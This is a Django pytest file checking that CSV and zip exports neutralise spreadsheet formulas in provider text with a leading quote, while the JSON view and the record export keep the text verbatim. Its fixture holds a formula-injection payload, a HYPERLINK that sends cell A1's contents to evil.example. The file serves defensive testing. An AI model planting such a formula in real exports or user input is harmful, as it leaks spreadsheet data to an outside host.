"""The open-data tables and the shortlist export write provider text a spreadsheet would
evaluate with a leading quote; the JSON twin and the record keep it as it was typed."""

import csv
import io
import json
import zipfile

import pytest
from django.core.management import call_command

from tests.public.published import programme_data, store

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
FORMULA_SUMMARY = "@SUM(1+1) helps families"


@pytest.fixture
def formula_programme(ipp_data):
    data = programme_data(ipp_data, "formula-programme", FORMULA_NAME)
    data["summary"] = FORMULA_SUMMARY
    return store(data)


def rows_of(response):
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8"))))


def test_the_programmes_table_quotes_formula_text(client, formula_programme):
    (row,) = rows_of(client.get("/downloads/programmes.csv"))
    assert row["name"] == "'" + FORMULA_NAME
    assert row["summary"] == "'" + FORMULA_SUMMARY


def test_the_zip_holds_the_same_quoted_tables(client, formula_programme):
    archive = zipfile.ZipFile(
        io.BytesIO(client.get("/downloads/guidebook-open-data.zip").getvalue())
    )
    text = archive.read("programmes.csv").decode("utf-8")
    assert "'" + FORMULA_NAME.replace('"', '""') in text


def test_the_shortlist_export_quotes_formula_text(client, formula_programme):
    client.post("/shortlist/add/formula-programme/")
    (row,) = rows_of(client.get("/shortlist.csv"))
    assert row["name"] == "'" + FORMULA_NAME


def test_the_json_twin_and_the_record_file_keep_the_text_as_typed(client, formula_programme):
    programme = client.get("/programmes/formula-programme.json").json()["programme"]
    assert (programme["name"], programme["summary"]) == (FORMULA_NAME, FORMULA_SUMMARY)
    out = io.StringIO()
    call_command("export", "formula-programme", stdout=out)
    record = json.loads(out.getvalue())
    assert (record["name"], record["summary"]) == (FORMULA_NAME, FORMULA_SUMMARY)
